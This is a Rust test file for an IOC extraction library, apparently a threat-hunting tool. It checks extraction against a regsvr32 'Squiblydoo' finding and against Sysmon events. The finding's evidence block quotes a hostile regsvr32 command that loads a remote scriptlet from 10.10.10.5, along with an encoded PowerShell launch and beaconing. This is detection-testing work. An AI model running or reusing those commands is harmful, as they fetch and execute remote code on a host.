//! IOC extraction against recorded cases: the bug-report table in
//! `tests/data/ioc-extraction.tsv`, the regsvr32 "Squiblydoo" finding as a
//! hunter posted it, and the real Sysmon events attached to it
//! (`tests/data/ioc-sysmon-events.jsonl`). `tests/data/SOURCE.md` gives the
//! sources.

use std::collections::BTreeSet;
use std::path::Path;

use huntbridge::domain::ioc::{Extractor, Ioc, IocFlag, IocKind};

fn read_data(name: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(name);
    std::fs::read_to_string(&path)
        .unwrap_or_else(|error| panic!("reading {}: {error}", path.display()))
}

/// What one table row expects.
#[derive(Debug, Default)]
struct Expected {
    /// Kinds with values: the extracted set of that kind must equal this set.
    values: Vec<(IocKind, BTreeSet<String>)>,
    /// Kinds that must not be extracted at all.
    absent: Vec<IocKind>,
    /// `(none: …)`: nothing may be extracted.
    nothing: bool,
}

impl Expected {
    fn add_value(&mut self, kind: IocKind, value: &str) {
        match self.values.iter_mut().find(|(k, _)| *k == kind) {
            Some((_, set)) => _ = set.insert(value.to_owned()),
            None => self.values.push((kind, BTreeSet::from([value.to_owned()]))),
        }
    }
}

/// Maps a type name of the table to a kind; `ipv4_cidr` is the table's name
/// for a CIDR block.
fn kind_from_table(name: &str) -> IocKind {
    match name {
        "ipv4_cidr" | "ipv6_cidr" => IocKind::Cidr,
        other => IocKind::from_name(other)
            .unwrap_or_else(|| panic!("unknown type `{other}` in the table")),
    }
}

/// Splits at `;` outside parentheses.
fn split_items(text: &str) -> Vec<&str> {
    let mut items = Vec::new();
    let mut depth = 0usize;
    let mut start = 0;
    for (i, c) in text.char_indices() {
        match c {
            '(' => depth += 1,
            ')' => depth = depth.saturating_sub(1),
            ';' if depth == 0 => {
                items.push(text[start..i].trim());
                start = i + 1;
            }
            _ => {}
        }
    }
    items.push(text[start..].trim());
    items.into_iter().filter(|item| !item.is_empty()).collect()
}

/// Reads an explanation in parentheses: `none: …` expects nothing at all,
/// `none as <kind>` and `no <kind>s` expect no value of that kind.
fn read_explanation(explanation: &str, expected: &mut Expected) {
    let words: Vec<String> = explanation
        .split(|c: char| !c.is_ascii_alphanumeric() && c != '_')
        .filter(|word| !word.is_empty())
        .map(str::to_ascii_lowercase)
        .collect();
    if words.first().is_some_and(|word| word == "none") {
        match (words.get(1).map(String::as_str), words.get(2)) {
            (Some("as"), Some(kind)) => expected.absent.push(kind_from_table(kind)),
            _ => expected.nothing = true,
        }
        return;
    }
    for pair in words.windows(2) {
        if pair[0] == "no"
            && let Some(kind) = IocKind::from_name(pair[1].trim_end_matches('s'))
        {
            expected.absent.push(kind);
        }
    }
}

fn parse_expected(text: &str) -> Expected {
    let mut expected = Expected::default();
    for item in split_items(text) {
        if let Some(explanation) = item.strip_prefix('(') {
            read_explanation(explanation.trim_end_matches(')'), &mut expected);
            continue;
        }
        let (pair, explanation) = match item.split_once(" (") {
            Some((pair, explanation)) => (pair, Some(explanation.trim_end_matches(')'))),
            None => (item, None),
        };
        let (kind, value) = pair
            .split_once(':')
            .unwrap_or_else(|| panic!("expected `type:value`, found `{pair}`"));
        expected.add_value(kind_from_table(kind), value.trim());
        if let Some(explanation) = explanation {
            read_explanation(explanation, &mut expected);
        }
    }
    expected
}

fn values_of(iocs: &[Ioc], kind: IocKind) -> BTreeSet<String> {
    iocs.iter()
        .filter(|ioc| ioc.kind == kind)
        .map(|ioc| ioc.value.clone())
        .collect()
}

/// Checks one row; returns what is wrong, if anything.
fn check_row(extractor: &Extractor, input: &str, expected: &Expected) -> Vec<String> {
    let iocs = extractor.extract(input);
    let mut problems = Vec::new();
    if expected.nothing && !iocs.is_empty() {
        problems.push(format!("expected no indicators, got {iocs:?}"));
    }
    for (kind, want) in &expected.values {
        let got = values_of(&iocs, *kind);
        if &got != want {
            problems.push(format!("{kind}: expected {want:?}, got {got:?}"));
        }
    }
    for kind in &expected.absent {
        let got = values_of(&iocs, *kind);
        if !got.is_empty() {
            problems.push(format!("expected no {kind}, got {got:?}"));
        }
    }
    problems
}

/// Every row of the bug-report table passes.
#[test]
fn extraction_table_rows_pass() {
    let table = read_data("ioc-extraction.tsv");
    let extractor = Extractor::default();
    let mut rows = 0;
    let mut failures = Vec::new();
    for line in table.lines() {
        if line.starts_with('#') || line.starts_with("input\t") || line.trim().is_empty() {
            continue;
        }
        let mut columns = line.split('\t');
        let (Some(input), Some(expected)) = (columns.next(), columns.next()) else {
            panic!("row without an expected_iocs column: {line}");
        };
        let input = input.replace("\\n", "\n");
        let expected = parse_expected(expected);
        rows += 1;
        for problem in check_row(&extractor, &input, &expected) {
            failures.push(format!("{input:?}: {problem}"));
        }
    }
    assert_eq!(rows, 18, "rows read from the table");
    assert!(
        failures.is_empty(),
        "failing rows:\n{}",
        failures.join("\n")
    );
}

/// The table parser reads each form of `expected_iocs`.
#[test]
fn table_expectations_parse() {
    let expected = parse_expected("(none: version string, not ipv4)");
    assert!(expected.nothing);

    let expected = parse_expected("(none as ipv6: colon-separated MD5 fingerprint)");
    assert_eq!(expected.absent, [IocKind::Ipv6]);
    assert!(!expected.nothing);

    let expected = parse_expected("ipv4_cidr:192.0.2.0/24 (not a scheme-less url)");
    assert_eq!(
        expected.values,
        [(IocKind::Cidr, BTreeSet::from(["192.0.2.0/24".to_owned()]))]
    );

    let expected = parse_expected(
        "filename:setup.py; filename:virus.exe (no domains although .py/.zip are TLDs)",
    );
    assert_eq!(expected.values[0].1.len(), 2);
    assert_eq!(expected.absent, [IocKind::Domain]);
}

/// The finding text of the regsvr32 case, as the hunter posted it.
const SQUIBLYDOO_FINDING: &str = r#"/finding Regsvr32 cargando scriptlet remoto (Squiblydoo) en WORKSTATION5
hipótesis: abuso de regsvr32 /i:http con scrobj.dll para ejecutar scriptlets COM remotos y evadir controles
técnicas: T1218.010, T1059.001
equipos: WORKSTATION5.mordor.local
usuarios: MORDOR\pgustavo
severidad: alta
confianza: media
tlp: amber
iocs:
- hxxp://10.10.10[.]5:8444/launcher[.]sct
- 908B64B1971A979C7E3E8CE4621945CBA84854CB98D76367B791A6E22B5F6D53
evidencia:
```
2020-07-22T03:27:53Z WORKSTATION5 Sysmon 1 "C:\windows\system32\regsvr32.exe" /s /n /u /i:http://10.10.10.5:8444/launcher.sct scrobj.dll (padre: powershell.exe)
2020-07-22T03:27:54Z WORKSTATION5 Sysmon 1 powershell.exe -noP -sta -w 1 -enc SQBGACgAJABQAFMAVgBFAHIA... (padre: regsvr32.exe)
2020-07-22T03:27:57Z..03:28:28Z WORKSTATION5 Sysmon 3 powershell.exe -> 10.10.10.5:8444 cada ~5 s (beaconing)
```
Adjunto los eventos completos de Sysmon."#;

fn find<'a>(iocs: &'a [Ioc], kind: IocKind, value: &str) -> &'a Ioc {
    iocs.iter()
        .find(|ioc| ioc.kind == kind && ioc.value == value)
        .unwrap_or_else(|| panic!("no {kind} {value} in {iocs:?}"))
}

/// The regsvr32 finding gives its URL, private IP and SHA-256, and nothing
/// from timestamps, the host name or the encoded command.
#[test]
fn squiblydoo_finding_indicators() {
    let iocs = Extractor::default().extract(SQUIBLYDOO_FINDING);

    let url = find(&iocs, IocKind::Url, "http://10.10.10.5:8444/launcher.sct");
    assert_eq!(url.flags, [IocFlag::Private]);
    assert_eq!(url.defanged(), "hxxp://10[.]10[.]10[.]5:8444/launcher.sct");
    let ip = find(&iocs, IocKind::Ipv4, "10.10.10.5");
    assert_eq!(ip.flags, [IocFlag::Private]);
    let hash = find(
        &iocs,
        IocKind::Sha256,
        "908b64b1971a979c7e3e8ce4621945cba84854cb98d76367b791a6e22b5f6d53",
    );
    assert!(hash.flags.is_empty());

    assert!(
        values_of(&iocs, IocKind::Ipv6).is_empty(),
        "timestamps gave IPv6: {iocs:?}"
    );
    for domain in iocs.iter().filter(|ioc| ioc.kind == IocKind::Domain) {
        assert!(
            domain.has_flag(IocFlag::Private),
            "unflagged domain {domain:?}"
        );
    }
    assert!(
        !iocs
            .iter()
            .any(|ioc| ioc.value.to_ascii_lowercase().contains("sqbg")),
        "the encoded command gave an indicator: {iocs:?}"
    );
    for name in ["regsvr32.exe", "scrobj.dll", "powershell.exe"] {
        assert_eq!(
            find(&iocs, IocKind::Filename, name).flags,
            [IocFlag::KnownGood]
        );
    }
    let kinds: BTreeSet<IocKind> = iocs.iter().map(|ioc| ioc.kind).collect();
    assert_eq!(
        kinds,
        BTreeSet::from([
            IocKind::Url,
            IocKind::Ipv4,
            IocKind::Sha256,
            IocKind::Domain,
            IocKind::Filename
        ])
    );
}

/// Each line of the finding's `iocs:` field classifies as one indicator.
#[test]
fn squiblydoo_iocs_field_lines_classify() {
    let extractor = Extractor::default();
    let url = extractor
        .classify_one("- hxxp://10.10.10[.]5:8444/launcher[.]sct")
        .unwrap();
    assert_eq!(
        (url.kind, url.value.as_str()),
        (IocKind::Url, "http://10.10.10.5:8444/launcher.sct")
    );
    let hash = extractor
        .classify_one("- 908B64B1971A979C7E3E8CE4621945CBA84854CB98D76367B791A6E22B5F6D53")
        .unwrap();
    assert_eq!(hash.kind, IocKind::Sha256);
}

/// The indicators of the 19 Sysmon events, in order of first appearance.
const SYSMON_EXPECTED: [(IocKind, &str); 38] = [
    (IocKind::Filename, "powershell.exe"),
    (IocKind::Filename, "regsvr32.exe"),
    (IocKind::Url, "http://10.10.10.5:8444/launcher.sct"),
    (IocKind::Ipv4, "10.10.10.5"),
    (IocKind::Filename, "scrobj.dll"),
    (IocKind::Sha1, "8a00ad3f91f4df913a49c6083f48f9530ccf5326"),
    (IocKind::Md5, "578bab56836a3fe455ffc7883041825b"),
    (
        IocKind::Sha256,
        "8ffc7f80efbf746e49f37ea3d140f042cf71ef20b4da2a8f02688e79295da11d",
    ),
    (IocKind::Domain, "workstation5.mordor.local"),
    (IocKind::Domain, "wec.internal.cloudapp.net"),
    (IocKind::Sha1, "bbe6190edae90ab72eb53bfa9dd7846597e5c44b"),
    (IocKind::Md5, "80f001d5a3609071c15be2d2f98a847b"),
    (
        IocKind::Sha256,
        "35e5723e66e04826d96234efe329095e6084bab6dda109dbd68ea790c051cb78",
    ),
    (IocKind::Filename, "UrlMon.dll"),
    (IocKind::Sha1, "2ea4577b34c0955c4e16d6d67df5f078df142e7b"),
    (IocKind::Md5, "485794d66dd54bec3e2540d886df1f38"),
    (
        IocKind::Sha256,
        "fd3852effa554a3acfdbea5745e22d338da3326f45943ad0f97290d6e02b6ab0",
    ),
    (IocKind::Filename, "jscript.dll"),
    (IocKind::Sha1, "e79f4baa4b99e10625b64ab0fe3ab628c354d110"),
    (IocKind::Md5, "7293eee0f488f71da143e1788c6a705a"),
    (
        IocKind::Sha256,
        "d2d903452b699982ad7b4ae6a220f52c26f183bce0ca9a07532eb87b0c9a7452",
    ),
    (IocKind::Filename, "amsi.dll"),
    (IocKind::Sha1, "c6027664d44c8579a0ef7f515e12a4542fd782cd"),
    (IocKind::Md5, "1c188194c6c1880fb7d9e6f54383ff40"),
    (
        IocKind::Sha256,
        "0a6947b24caed32006e86dd83a29c1570dfe4ed363ae22d1277d9211430f73ad",
    ),
    (IocKind::Filename, "wshom.ocx"),
    (IocKind::Sha1, "3a0bfdf18b297643056dc6f4dfe9719247379980"),
    (IocKind::Md5, "96aa9f7f891fe22d545eb2493ed67489"),
    (
        IocKind::Sha256,
        "cc075b18c81177dcd9e874771d2b4ba39955d0ddad834c9d07ad8ba0fb13f287",
    ),
    (IocKind::Sha1, "36c5d12033b2eaf251bae61c00690ffb17fddc87"),
    (IocKind::Md5, "cda48fc75952ad12d99e526d0b6bf70a"),
    (
        IocKind::Sha256,
        "908b64b1971a979c7e3e8ce4621945cba84854cb98d76367b791a6e22b5f6d53",
    ),
    (IocKind::Filename, "conhost.exe"),
    (IocKind::Sha1, "11996f32dd85863a8c3bff6d520f788a9211c8f7"),
    (IocKind::Md5, "c5e9b1d1103edcea2e408e9497a5a88f"),
    (
        IocKind::Sha256,
        "baf97b2a629723947539cff84e896cd29565ab4bb68b0cec515eb5c5d6637b69",
    ),
    (IocKind::Ipv4, "172.18.39.5"),
    (IocKind::Filename, "svchost.exe"),
];

/// The Sysmon events give exactly the expected indicators, in order, plus the
/// prefetch file name; no garbage from JSON escapes, timestamps or GUIDs.
#[test]
fn sysmon_events_indicators() {
    let events = read_data("ioc-sysmon-events.jsonl");
    let iocs = Extractor::default().extract(&events);
    let got: Vec<(IocKind, &str)> = iocs
        .iter()
        .map(|ioc| (ioc.kind, ioc.value.as_str()))
        .collect();
    let mut expected = SYSMON_EXPECTED.to_vec();
    expected.push((IocKind::Filename, "REGSVR32.EXE-8461DBEE.pf"));
    assert_eq!(got, expected);
}

/// Every `Hashes:` field of the events yields its SHA1, MD5 and SHA256, and
/// never the IMPHASH, which is an import-table hash, not a file hash.
#[test]
fn sysmon_hashes_fields() {
    let events = read_data("ioc-sysmon-events.jsonl");
    let iocs = Extractor::default().extract(&events);
    let mut fields = 0;
    for line in events.lines() {
        let Some(start) = line.find("\"Hashes\": \"") else {
            continue;
        };
        let field = &line[start + 11..];
        let field = &field[..field.find('"').expect("closing quote")];
        fields += 1;
        for part in field.split(',') {
            let (label, value) = part.split_once('=').expect("LABEL=value");
            let value = value.to_ascii_lowercase();
            let kind = match label {
                "SHA1" => Some(IocKind::Sha1),
                "MD5" => Some(IocKind::Md5),
                "SHA256" => Some(IocKind::Sha256),
                "IMPHASH" => None,
                other => panic!("unexpected hash label {other}"),
            };
            match kind {
                Some(kind) => _ = find(&iocs, kind, &value),
                None => assert!(
                    !iocs.iter().any(|ioc| ioc.value == value),
                    "IMPHASH {value} was extracted"
                ),
            }
        }
    }
    assert_eq!(fields, 8, "events with a Hashes field");
}

/// Every value extracted from the events classifies back to itself, so none
/// is a fragment of something else.
#[test]
fn sysmon_values_classify_back() {
    let events = read_data("ioc-sysmon-events.jsonl");
    let extractor = Extractor::default();
    for ioc in extractor.extract(&events) {
        let again = extractor
            .classify_one(&ioc.value)
            .unwrap_or_else(|error| panic!("{ioc:?}: {error}"));
        assert_eq!((again.kind, &again.value), (ioc.kind, &ioc.value));
        assert_eq!(again.flags, ioc.flags, "{ioc:?}");
    }
}

/// Flags on the Sysmon indicators: the source address, the internal host
/// name and the Azure collector name (Azure's internal DNS suffix) are
/// private, the LOLBins are known-good.
#[test]
fn sysmon_flags() {
    let events = read_data("ioc-sysmon-events.jsonl");
    let iocs = Extractor::default().extract(&events);
    assert_eq!(
        find(&iocs, IocKind::Ipv4, "172.18.39.5").flags,
        [IocFlag::Private]
    );
    assert_eq!(
        find(&iocs, IocKind::Domain, "workstation5.mordor.local").flags,
        [IocFlag::Private]
    );
    assert_eq!(
        find(&iocs, IocKind::Domain, "wec.internal.cloudapp.net").flags,
        [IocFlag::Private]
    );
    for name in [
        "powershell.exe",
        "regsvr32.exe",
        "scrobj.dll",
        "conhost.exe",
    ] {
        assert_eq!(
            find(&iocs, IocKind::Filename, name).flags,
            [IocFlag::KnownGood],
            "{name}"
        );
    }
}
